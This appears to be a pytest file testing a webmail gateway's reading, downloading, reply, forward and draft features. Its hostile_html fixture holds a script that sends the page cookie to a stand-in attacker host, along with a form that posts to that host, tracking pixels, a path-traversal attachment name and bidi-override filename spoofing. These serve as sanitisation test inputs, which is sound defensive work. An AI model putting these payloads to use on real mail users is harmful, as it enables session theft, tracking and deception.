"""Webmail reading: sanitized HTML, safe downloads, move and delete, reply, forward, drafts.

Threats covered: HTML mail that loads remote content, runs script, posts a form
or restyles the page (EFAIL-style exfiltration and plain tracking); an
attachment name that walks a path or breaks the Content-Disposition header; one
account reaching another's messages by id; a draft or a forwarded encrypted
message ending up in clear at rest.
"""

from __future__ import annotations

import html
import re
from email.message import EmailMessage

import pytest
import sqlalchemy as sa
from flask import Flask

from gateway import db
from gateway.mailbox import INBOX, SENT
from gateway.models import MailboxMessage
from gateway.runtime import Runtime
from tests.gateway.test_secure_page import decrypt_as, open_with, token_of

from .webmail_support import (
    ALICE,
    BOB,
    CAROL,
    Webmail,
    deliver,
    field_value,
    queued,
    rows,
    textarea,
    webmail_app,
)

EVIL = "http://198.51.100.66"
PDF = b"%PDF-1.4\n" + bytes(range(256)) * 8 + b"\n%%EOF\n"
SECRET_TEXT = "Der Tresorcode ist 4711-Okapi."


@pytest.fixture
def app(runtime: Runtime) -> Flask:
    return webmail_app(runtime)


@pytest.fixture
def alice(app: Flask, mail_users: dict[str, str]) -> Webmail:
    return Webmail(app.test_client()).login(ALICE)


@pytest.fixture
def bob(app: Flask, mail_users: dict[str, str]) -> Webmail:
    return Webmail(app.test_client()).login(BOB)


def hostile_html() -> EmailMessage:
    msg = EmailMessage()
    msg["From"] = "Mallory <mallory@elsewhere.example>"
    msg["To"] = ALICE
    msg["Subject"] = "Rechnung"
    msg["Message-ID"] = "<hostile-1@elsewhere.example>"
    msg.set_content("Rechnung im Anhang.")
    msg.add_alternative(
        f"""<html><head><meta http-equiv="refresh" content="0;url={EVIL}/refresh">
<link rel="stylesheet" href="{EVIL}/s.css"><style>body {{ background: url({EVIL}/bg) }}</style>
<script>document.location = "{EVIL}/steal?" + document.cookie</script></head>
<body><p>Sehr geehrte Alice, <b>Rechnung</b> anbei.</p>
<img src="{EVIL}/pixel.gif"><div style="background-image:url({EVIL}/a)">x</div>
<form action="{EVIL}/form"><input name="q"><button>OK</button></form>
<a href="https://example.org/info" onclick="steal()">Info</a>
<a href="javascript:alert(1)">klick</a></body></html>""",
        subtype="html",
    )
    msg.add_attachment(
        PDF, maintype="application", subtype="pdf", filename='..\\..\\Über"sicht.pdf'
    )
    return msg


def test_html_is_sanitized_and_attachments_are_safe_downloads(
    alice: Webmail, runtime: Runtime
) -> None:
    message_id = deliver(runtime, ALICE, hostile_html())
    page = alice.get(f"/mail/{message_id}")
    assert page.status_code == 200
    body = page.text.split('<div class="html-body">')[1].split('<section class="attachments">')[0]
    assert "Sehr geehrte Alice" in body and "<b>Rechnung</b>" in body
    for pattern in ("<img", "<script", "<form", "<style", "style=", "<link", "http-equiv", EVIL):
        assert pattern not in body, pattern
    assert "onclick" not in body and "javascript:" not in body
    assert '<a href="https://example.org/info" target="_blank" rel="noopener noreferrer">' in body
    assert "Not encrypted" in page.text
    assert page.headers["Cache-Control"] == "no-store"
    assert "img-src 'self' data:" in page.headers["Content-Security-Policy"]

    link = re.search(r'href="(/mail/\d+/attachments/0)" download>([^<]+)<', page.text)
    assert link is not None
    assert html.unescape(link.group(2)) == 'Über"sicht.pdf'
    download = alice.get(link.group(1))
    assert download.status_code == 200 and download.data == PDF
    assert download.mimetype == "application/octet-stream"
    disposition = download.headers["Content-Disposition"]
    assert disposition.startswith('attachment; filename="_ber_sicht.pdf"')
    assert "filename*=UTF-8''%C3%9Cber%22sicht.pdf" in disposition
    assert "\\" not in disposition and "/" not in disposition
    assert download.headers["X-Content-Type-Options"] == "nosniff"
    assert alice.get(f"/mail/{message_id}/attachments/1").status_code == 404


def test_a_message_that_does_not_decrypt_is_an_error_on_the_page(
    alice: Webmail, runtime: Runtime
) -> None:
    message_id = deliver(
        runtime,
        ALICE,
        b"From: x@elsewhere.example\r\nTo: alice@example.test\r\nSubject: kaputt\r\n"
        b'Content-Type: multipart/encrypted; protocol="application/pgp-encrypted";'
        b' boundary="b"\r\n\r\n--b\r\nContent-Type: application/pgp-encrypted\r\n\r\n'
        b"Version: 1\r\n--b\r\nContent-Type: application/octet-stream\r\n\r\n"
        b"-----BEGIN PGP MESSAGE-----\r\n\r\nAAAA\r\n-----END PGP MESSAGE-----\r\n--b--\r\n",
    )
    with db.transaction(runtime.sessions) as session:
        row = session.get(MailboxMessage, message_id)
        assert row is not None
        row.encrypted = True
    page = alice.get(f"/mail/{message_id}")
    assert page.status_code == 200
    assert "This message cannot be decrypted with your keys." in page.text
    assert "Traceback" not in page.text
    assert alice.get(f"/mail/{message_id}/attachments/0").status_code == 404


def test_another_accounts_message_is_not_found_by_id(
    alice: Webmail, bob: Webmail, runtime: Runtime
) -> None:
    theirs = deliver(runtime, BOB, hostile_html())
    for path in (
        f"/mail/{theirs}",
        f"/mail/{theirs}/attachments/0",
        f"/compose?reply={theirs}",
        f"/compose?forward={theirs}",
        f"/compose?draft={theirs}",
    ):
        assert alice.get(path).status_code == 404, path
    moved = alice.post(f"/mail/{theirs}/move", {"folder": "Trash"}, page="/inbox")
    deleted = alice.post(f"/mail/{theirs}/delete", {}, page="/inbox")
    assert (moved.status_code, deleted.status_code) == (404, 404)
    assert [r.id for r in rows(runtime, BOB)] == [theirs]
    assert "Rechnung" not in alice.get("/inbox").text
    assert bob.get(f"/mail/{theirs}").status_code == 200


def test_move_and_delete_through_the_trash(alice: Webmail, runtime: Runtime) -> None:
    first = deliver(runtime, ALICE, hostile_html())
    moved = alice.post(f"/mail/{first}/move", {"folder": SENT}, page=f"/mail/{first}")
    assert moved.status_code == 303 and moved.headers["Location"] == "/inbox"
    assert [r.id for r in rows(runtime, ALICE, SENT)] == [first]
    assert "The message was moved to Sent." in alice.get("/inbox").text
    # Not into Drafts (a draft is made by saving one), nor anywhere unknown.
    for folder in ("Drafts", "Elsewhere"):
        refused = alice.post(f"/mail/{first}/move", {"folder": folder}, page="/sent")
        assert refused.status_code == 400
    assert alice.post(f"/mail/{first}/delete", {}, page="/sent").headers["Location"] == "/sent"
    assert [r.id for r in rows(runtime, ALICE, "Trash")] == [first]
    trash = alice.get("/trash").text
    assert "Rechnung" in trash and "The message was moved to the trash." in trash
    assert "data-confirm=" in alice.get(f"/mail/{first}").text  # asks before it is gone
    gone = alice.post(f"/mail/{first}/delete", {}, page="/trash")
    assert gone.headers["Location"] == "/trash"
    assert "The message was deleted for good." in alice.get("/trash").text
    with db.read_only(runtime.sessions) as session:
        assert session.get(MailboxMessage, first) is None


def send_encrypted_with_attachment(bob: Webmail) -> None:
    sent = bob.compose(
        **{
            "from": BOB,
            "to": ALICE,
            "subject": "Plan",
            "text": f"Hallo Alice,\n{SECRET_TEXT}",
            "encrypt": "yes",
        },
        files=[(PDF, "plan.pdf", "application/pdf")],
    )
    assert sent.status_code == 303


def test_reply_and_forward_keep_encryption_on(
    alice: Webmail, bob: Webmail, runtime: Runtime
) -> None:
    send_encrypted_with_attachment(bob)
    (original,) = rows(runtime, ALICE, INBOX)
    assert original.encrypted

    reply = alice.get(f"/compose?reply={original.id}").text
    assert 'name="encrypt" value="yes" checked' in reply
    assert field_value(reply, "to") == BOB
    assert field_value(reply, "subject") == "Re: Plan"
    assert f"&gt; {SECRET_TEXT}" in textarea(reply, "text")
    message_id = re.search(r"Message-ID: (<[^>]+>)", original.raw.decode()).group(1)  # type: ignore[union-attr]
    assert html.unescape(field_value(reply, "in_reply_to")) == message_id
    assert "selected>alice@example.test<" in reply.replace('" selected', " selected")

    forward = alice.get(f"/compose?forward={original.id}").text
    assert 'name="encrypt" value="yes" checked' in forward
    assert field_value(forward, "subject") == "Fwd: Plan"
    assert SECRET_TEXT in html.unescape(textarea(forward, "text"))
    assert re.search(r'name="carry" value="0" checked> plan.pdf', forward)

    sent = alice.compose(
        page=f"/compose?forward={original.id}",
        **{
            "from": ALICE,
            "to": BOB,
            "subject": "Fwd: Plan",
            "text": "siehe unten",
            "encrypt": "yes",
            "carry_from": str(original.id),
            "carry": "0",
        },
    )
    assert sent.status_code == 303, sent.text
    forwarded = rows(runtime, BOB, INBOX)[-1]
    assert forwarded.encrypted and PDF not in forwarded.raw
    inner = decrypt_as(runtime, BOB, forwarded.raw)
    assert b"plan.pdf" in inner
    view = bob.get(f"/mail/{forwarded.id}").text
    assert "plan.pdf" in view and "Encrypted" in view

    # Unticked, the attachment stays behind.
    alice.compose(
        **{
            "from": ALICE,
            "to": BOB,
            "subject": "ohne",
            "text": "t",
            "encrypt": "yes",
            "carry_from": str(original.id),
        }
    )
    assert b"plan.pdf" not in decrypt_as(runtime, BOB, rows(runtime, BOB, INBOX)[-1].raw)


def test_reply_all_leaves_out_ones_own_addresses(alice: Webmail, runtime: Runtime) -> None:
    msg = EmailMessage()
    msg["From"] = "Carol <carol@elsewhere.example>"
    msg["To"] = f"{ALICE}, dan@elsewhere.example"
    msg["Cc"] = f"{BOB}, ALICE@example.test"
    msg["Subject"] = "Re: Treffen"
    msg["Message-ID"] = "<m2@elsewhere.example>"
    msg.set_content("Dienstag?")
    message_id = deliver(runtime, ALICE, msg)
    page = alice.get(f"/compose?reply={message_id}&all=1").text
    assert field_value(page, "to") == "carol@elsewhere.example"
    assert field_value(page, "cc") == f"dan@elsewhere.example, {BOB}"
    assert field_value(page, "subject") == "Re: Treffen"  # no second "Re:"
    assert 'name="encrypt" value="yes">' in page  # a plain original: the lock starts open


def test_drafts_are_stored_encrypted_and_come_back(alice: Webmail, runtime: Runtime) -> None:
    fields = {
        "from": ALICE,
        "to": BOB,
        "bcc": CAROL,
        "subject": "Entwurf",
        "text": SECRET_TEXT,
        "encrypt": "yes",
        "action": "draft",
    }
    saved = alice.compose(**fields, files=[(PDF, "plan.pdf", "application/pdf")])
    assert saved.status_code == 303
    (draft,) = rows(runtime, ALICE, "Drafts")
    assert saved.headers["Location"] == f"/compose?draft={draft.id}"
    assert draft.encrypted
    for clear in (SECRET_TEXT.encode(), CAROL.encode(), PDF[:40]):
        assert clear not in draft.raw
    assert draft.subject == "Entwurf"  # the one thing kept in clear, for the list

    page = alice.get(saved.headers["Location"]).text
    assert "The draft was saved, encrypted to your key." in page
    assert field_value(page, "bcc") == CAROL and field_value(page, "to") == BOB
    assert html.unescape(textarea(page, "text")) == SECRET_TEXT
    assert 'name="encrypt" value="yes" checked' in page
    assert re.search(r'name="carry" value="0" checked> plan.pdf', page)
    assert field_value(page, "password") == ""  # never kept with a draft
    assert alice.get(f"/mail/{draft.id}").headers["Location"] == f"/compose?draft={draft.id}"
    assert "Entwurf" in alice.get("/drafts").text

    # Saving again replaces the draft.
    again = alice.compose(
        page=f"/compose?draft={draft.id}",
        **{**fields, "draft_id": str(draft.id), "carry_from": str(draft.id), "carry": "0"},
    )
    (replaced,) = rows(runtime, ALICE, "Drafts")
    assert again.headers["Location"] == f"/compose?draft={replaced.id}"

    # Sending it delivers the kept attachment and removes the draft.
    sent = alice.compose(
        page=f"/compose?draft={replaced.id}",
        **{
            **fields,
            "action": "send",
            "password": "Tulpen-und-Regen-42",
            "draft_id": str(replaced.id),
            "carry_from": str(replaced.id),
            "carry": "0",
        },
    )
    assert sent.status_code == 303, sent.text
    assert rows(runtime, ALICE, "Drafts") == []
    (delivered,) = rows(runtime, BOB, INBOX)
    assert delivered.encrypted and b"plan.pdf" in decrypt_as(runtime, BOB, delivered.raw)
    assert CAROL.encode() not in decrypt_as(runtime, BOB, delivered.raw)
    (notification,) = queued(runtime)
    assert notification.rcpt_to == CAROL
    opened = open_with(runtime, token_of(notification.raw), "Tulpen-und-Regen-42")
    assert opened is not None and SECRET_TEXT.encode() in opened and b"Bcc" not in opened


def test_the_folders_list_their_own_mail(alice: Webmail, runtime: Runtime) -> None:
    assert alice.compose(**{"from": ALICE, "to": BOB, "subject": "Gesendet", "text": "t"})
    sent = alice.get("/sent").text
    assert "Gesendet" in sent and BOB in sent and '<th scope="col">To</th>' in sent
    assert 'aria-current="page">Sent<' in sent
    assert "No messages." in alice.get("/drafts").text
    assert "No messages." in alice.get("/trash").text
    assert alice.get("/elsewhere").status_code == 404
    with db.read_only(runtime.sessions) as session:
        assert session.scalar(sa.select(sa.func.count()).select_from(MailboxMessage)) == 2


# Header fields on which Python's own header parsers raise (AttributeError, IndexError).
UNPARSABLE_FIELDS = [
    pytest.param("Cc: :;:;\r\n", id="cc-empty-groups"),
    pytest.param("Message-ID: <[>\r\n", id="message-id-open-bracket"),
    pytest.param("Message-ID: <a@[b>\r\n", id="message-id-open-domain-literal"),
    pytest.param("Reply-To: :;:;\r\n", id="reply-to-empty-groups"),
]


@pytest.mark.parametrize("field", UNPARSABLE_FIELDS)
def test_a_header_pythons_parser_fails_on_is_shown_not_a_500(
    alice: Webmail, runtime: Runtime, field: str
) -> None:
    raw = (
        f"From: Mallory <mallory@elsewhere.example>\r\nTo: {ALICE}\r\nSubject: odd\r\n"
        f"{field}\r\nDer Text.\r\n"
    ).encode()
    message_id = deliver(runtime, ALICE, raw)
    page = alice.get(f"/mail/{message_id}")
    assert page.status_code == 200 and "Der Text." in page.text
    for query in ("reply", "forward"):
        assert alice.get(f"/compose?{query}={message_id}").status_code == 200
    assert alice.get(f"/compose?reply={message_id}&all=1").status_code == 200


def test_an_attachment_with_an_unparsable_disposition_still_downloads(
    alice: Webmail, runtime: Runtime
) -> None:
    """`filename*=` with an empty RFC 2231 value: IndexError in Python's parser, a 500."""
    raw = (
        f"From: mallory@elsewhere.example\r\nTo: {ALICE}\r\nSubject: odd\r\n"
        "Content-Type: multipart/mixed; boundary=b\r\n\r\n"
        "--b\r\nContent-Type: text/plain\r\n\r\nDer Text.\r\n"
        "--b\r\nContent-Type: application/pdf\r\n"
        "Content-Disposition: attachment; filename*=\"''\"; filename*0=\r\n\r\n%PDF\r\n--b--\r\n"
    ).encode()
    message_id = deliver(runtime, ALICE, raw)
    page = alice.get(f"/mail/{message_id}")
    assert page.status_code == 200 and "Der Text." in page.text
    download = alice.get(f"/mail/{message_id}/attachments/0")
    assert download.status_code == 200 and download.data == b"%PDF"
    assert download.mimetype == "application/octet-stream"
    assert alice.get(f"/compose?forward={message_id}").status_code == 200


def test_bidi_overrides_in_subject_and_names_do_not_reorder_the_page(
    alice: Webmail, runtime: Runtime
) -> None:
    """`Invoice U+202Efdp.exe` shows as "Invoice exe.pdf"; a display name with an
    override turns the address next to it around."""
    raw = (
        "From: =?utf-8?q?Bob_=E2=80=AEliam=E2=80=AC?= <mallory@elsewhere.example>\r\n"
        f"To: {ALICE}\r\nSubject: =?utf-8?q?Invoice_=E2=80=AEfdp.exe_=E2=81=A7x=E2=81=A9?=\r\n"
        "\r\nDer Text.\r\n"
    ).encode()
    message_id = deliver(runtime, ALICE, raw)
    for page in (alice.get(f"/mail/{message_id}"), alice.get("/inbox")):
        assert page.status_code == 200
        assert "Invoice fdp.exe x" in page.text and "Bob liam" in page.text
        for control in ("\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067"):
            assert control not in page.text


def test_a_digests_messages_download_whole(alice: Webmail, runtime: Runtime) -> None:
    """RFC 2046 §5.1.5: a digest's parts without a Content-Type are messages; each is
    an attachment whose download is that message, not zero bytes."""
    raw = (
        f"From: list@elsewhere.example\r\nTo: {ALICE}\r\nSubject: digest\r\n"
        "Content-Type: multipart/digest; boundary=d\r\n\r\n"
        "--d\r\n\r\nFrom: b@example.org\r\nSubject: one\r\n\r\nBody one\r\n"
        "--d\r\nContent-Type: text/plain\r\n\r\nplain part\r\n--d--\r\n"
    ).encode()
    message_id = deliver(runtime, ALICE, raw)
    page = alice.get(f"/mail/{message_id}")
    assert page.status_code == 200 and "plain part" in page.text
    download = alice.get(f"/mail/{message_id}/attachments/0")
    assert download.status_code == 200
    # The line end before the boundary is the boundary's (RFC 2046 §5.1.1).
    assert download.data == b"From: b@example.org\r\nSubject: one\r\n\r\nBody one"
